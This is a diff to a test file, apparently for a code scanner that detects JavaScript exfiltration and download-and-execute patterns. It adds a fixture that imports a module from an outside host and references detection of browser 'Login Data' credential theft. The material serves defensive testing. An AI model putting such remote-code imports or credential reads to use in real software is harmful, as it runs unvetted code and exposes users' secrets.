@@ -297,3 +297,12 @@ def test_windows_folders_fold_to_the_sources_they_hold() -> None:
     )
     (found,) = _rule({"a.js": source}, "js.exfiltration")
     assert found.evidence[0].line == 3 and "Login Data" in found.evidence[0].what
+
+
+def test_a_module_imported_from_an_outside_host_is_download_exec() -> None:
+    source = (
+        "const base = 'https://cdn.example-mods.io';\n"
+        "const m = await import(`${base}/plugin.mjs`);\n"
+        "const local = await import('./plugin.mjs');\n"
+    )
+    assert {f.line for f in _rule({"a.mjs": source}, "js.download_exec")} == {2}
